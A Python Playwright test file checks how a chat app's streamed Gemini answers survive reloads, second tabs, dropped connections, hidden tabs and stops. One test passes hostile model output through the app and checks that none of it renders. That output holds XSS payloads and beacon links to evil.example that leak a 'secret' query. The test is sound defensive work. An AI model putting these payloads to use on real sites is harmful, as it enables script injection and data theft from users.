"""Following an answer: after a reload, in a second tab, over a broken connection."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import (
    SignUp,
    Visit,
    ask,
    conversation_of,
    shown_texts,
    stored_texts,
    wait_until_idle,
)
from tests.browser.network import Network
from tests.support.gemini import Block, Gemini, Hold, Pause, Text
from tests.support.live import LiveServer, Member

STORY: list[Text | Hold] = [Text("Once "), Text("upon "), Hold(), Text("a "), Text("time")]


def start_answer(page: Page, gemini: Gemini, question: str = "Tell me") -> Any:
    """Ask a question whose answer pauses after "Once upon "; return the answer's element."""
    gemini.on(question, STORY)
    page.goto("/")
    ask(page, question)
    expect(page.locator("article.live .prose")).to_have_text("Once upon ")
    return page.locator("article.live .prose")


def test_reloads_during_an_answer_neither_lose_nor_repeat_text(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    page = visit(alice)
    live = start_answer(page, gemini)
    for _ in range(3):
        page.reload()
        expect(live).to_have_text("Once upon ")
    gemini.release()
    wait_until_idle(page)
    assert shown_texts(page) == ["Tell me", "Once upon a time"]
    assert stored_texts(alice, conversation_of(page)) == ["Tell me", "Once upon a time"]


def test_reloads_at_any_moment_show_a_prefix_of_the_answer(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    words = [f"word{n} " for n in range(120)]
    gemini.on("count", [step for word in words for step in (Text(word), Pause(0.03))])
    page = visit(alice)
    page.goto("/")
    ask(page, "count")
    expect(page.locator("article.live .prose")).to_contain_text("word3 ")
    shown = ""
    for _ in range(5):
        page.reload()
        # first the text that the server rendered, then the text that the stream replays
        text = page.locator("article.assistant .prose").text_content() or ""
        assert "".join(words).startswith(text.rstrip())
        assert len(text) >= len(shown)
        expect(page.locator("article.assistant .prose")).to_contain_text(text.strip())
        shown = text
    wait_until_idle(page)
    assert shown_texts(page)[1] == "".join(words).strip()


def test_a_second_tab_follows_the_same_answer(visit: Visit, alice: Member, gemini: Gemini) -> None:
    page = visit(alice)
    live = start_answer(page, gemini)
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator("article.live .prose")).to_have_text("Once upon ")
    gemini.release()
    for tab in (page, second):
        wait_until_idle(tab)
        assert shown_texts(tab) == ["Tell me", "Once upon a time"]
    expect(live).to_have_count(0)
    assert gemini.calls_for("Tell me") == 1


def test_stop_keeps_the_written_text_in_every_tab(visit: Visit, alice: Member, gemini: Gemini) -> None:
    page = visit(alice)
    start_answer(page, gemini)
    second = page.context.new_page()
    second.goto(page.url)
    expect(second.locator("article.live .prose")).to_have_text("Once upon ")
    second.get_by_role("button", name="Stop").click()
    for tab in (page, second):
        wait_until_idle(tab)
        assert shown_texts(tab) == ["Tell me", "Once upon"]
        expect(tab.locator(".ending")).to_have_text("You stopped this answer.")
        expect(tab.get_by_role("button", name="Retry")).to_be_visible()
    assert stored_texts(alice, conversation_of(page)) == ["Tell me", "Once upon "]


def test_regenerate_writes_a_new_answer_in_place(visit: Visit, alice: Member, gemini: Gemini) -> None:
    gemini.on("Tell me", [Text("first")], [Text("sec"), Hold(), Text("ond")])
    page = visit(alice)
    page.goto("/")
    ask(page, "Tell me")
    page.get_by_role("button", name="Regenerate").click()
    expect(page.locator("article.live .prose")).to_have_text("sec")
    assert shown_texts(page) == ["Tell me", "sec"]
    page.reload()
    expect(page.locator("article.live .prose")).to_have_text("sec")
    gemini.release()
    wait_until_idle(page)
    assert shown_texts(page) == ["Tell me", "second"]


def test_a_declined_answer_shows_its_reason_and_no_retry_button(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    gemini.on("Tell me", [Text("Once "), Block("SAFETY")], [Text("Once "), Hold(), Text("more")])
    page = visit(alice)
    page.goto("/")
    ask(page, "Tell me")
    expect(page.locator(".ending")).to_have_text("The model declined to answer this.")
    expect(page.get_by_role("button", name="Retry")).to_have_count(0)
    expect(page.locator("#announcer")).to_have_text("The answer has ended.")
    assert shown_texts(page) == ["Tell me", "Once"]


@pytest.fixture
def network(server: LiveServer) -> Iterator[Network]:
    network = Network(server.url)
    yield network
    network.close()


def test_a_broken_connection_resumes_where_it_broke(
    visit: Visit, alice: Member, gemini: Gemini, network: Network
) -> None:
    page = visit(alice, url=network.url, expect_faults=["ERR_"])
    live = start_answer(page, gemini)
    for _ in range(2):
        network.cut()
        expect(page.locator("#connection")).to_have_text("Reconnecting…")
        expect(live).to_have_text("Once upon ")
        network.restore()
        expect(page.locator("#connection")).to_be_empty()
    network.cut()
    gemini.release()  # the answer ends while the page is disconnected
    expect(page.locator("#connection")).to_have_text("Reconnecting…")
    network.restore()
    wait_until_idle(page)
    expect(page.locator("#connection")).to_be_empty()
    assert shown_texts(page) == ["Tell me", "Once upon a time"]


def test_a_hidden_tab_closes_its_stream_and_resumes_when_visible(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    page = visit(alice)
    page.clock.install()
    live = start_answer(page, gemini)
    opened: list[str] = []
    page.on("request", lambda request: opened.append(request.url) if "/events" in request.url else None)
    _set_hidden(page, hidden=True)
    page.clock.fast_forward(11_000)
    gemini.release()
    page.wait_for_timeout(700)
    expect(live).to_have_text("Once upon ")  # nothing arrives: the stream is closed
    assert opened == []
    _set_hidden(page, hidden=False)
    wait_until_idle(page)
    assert shown_texts(page) == ["Tell me", "Once upon a time"]
    (resumed,) = opened
    assert resumed.endswith("?view=html&after=3")  # not from the beginning


def _set_hidden(page: Page, *, hidden: bool) -> None:
    page.evaluate(
        """(hidden) => {
            Object.defineProperty(document, "hidden", {configurable: true, get: () => hidden});
            document.dispatchEvent(new Event("visibilitychange"));
        }""",
        hidden,
    )


def test_a_reader_who_is_signed_out_is_notified(
    visit: Visit, server: LiveServer, gemini: Gemini, sign_up: SignUp
) -> None:
    dave = sign_up(server, "dave")
    page = visit(dave, expect_faults=["401"])
    live = start_answer(page, gemini)
    expect(page.locator(".answering-mark")).to_have_count(1)  # the page has read its list again
    page.context.clear_cookies(name="sessionid")
    gemini.release()
    expect(page.locator("#notice")).to_contain_text("You are signed out.")
    expect(live).to_have_text("Once upon a time")


def test_a_reader_of_a_deleted_conversation_is_notified(visit: Visit, alice: Member, gemini: Gemini) -> None:
    page = visit(alice, expect_faults=["404"])
    start_answer(page, gemini)
    gone = alice.http.delete(f"/api/v1/conversations/{conversation_of(page)}", headers=alice.headers())
    assert gone.status_code == 204
    expect(page.locator("#notice")).to_have_text("This conversation is no longer there.")


def test_the_view_follows_the_text_until_the_reader_scrolls_up(
    visit: Visit, alice: Member, gemini: Gemini
) -> None:
    lines = [Text(f"line {n}\n\n") for n in range(60)]
    gemini.on("long", [*lines, Hold(), *lines, Hold()])
    page = visit(alice, viewport={"width": 800, "height": 600})
    page.goto("/")
    ask(page, "long")
    expect(page.locator("article.live .prose")).to_contain_text("line 59")
    view = page.locator("main")
    gap = "(view) => Math.round(view.scrollHeight - view.scrollTop - view.clientHeight)"
    assert view.evaluate(gap) <= 2
    page.mouse.move(400, 300)
    page.mouse.wheel(0, -400)
    page.wait_for_function(f"() => ({gap})(document.querySelector('main')) >= 400")
    top = view.evaluate("(view) => view.scrollTop")
    gemini.release()
    wait_until_idle(page)
    assert view.evaluate(gap) > 1000
    assert abs(view.evaluate("(view) => view.scrollTop") - top) <= 1


def test_hostile_model_output_has_no_effect(visit: Visit, alice: Member, gemini: Gemini) -> None:
    hostile = """<img src=x onerror=alert(1)><script>alert(1)</script><svg onload=alert(1)>

![beacon](https://evil.example/?q=secret) [link](javascript:alert(1))

<style>*{background:url(https://evil.example/x)}</style><iframe src=https://evil.example>

```"><img src=https://evil.example/y>
x
```"""
    gemini.on(hostile, [Text(hostile)])
    page = visit(alice)
    page.goto("/")
    ask(page, hostile)
    wait_until_idle(page)
    expect(page.locator("article.assistant")).to_have_count(1)
    page.reload()
    assert page.locator("#messages").locator("img, script, style, iframe, svg[onload]").count() == 0


def test_six_tabs_follow_one_answer_at_the_same_time(visit: Visit, alice: Member, gemini: Gemini) -> None:
    # Browsers open at most six connections to a server. The page closes that of its question once the
    # run is known.
    page = visit(alice)
    start_answer(page, gemini)
    tabs = [page]
    for _ in range(5):
        tab = page.context.new_page()
        tab.goto(page.url)
        expect(tab.locator("article.live .prose")).to_have_text("Once upon ")
        tabs.append(tab)
    gemini.release()
    for tab in tabs:
        wait_until_idle(tab)
        assert shown_texts(tab) == ["Tell me", "Once upon a time"]
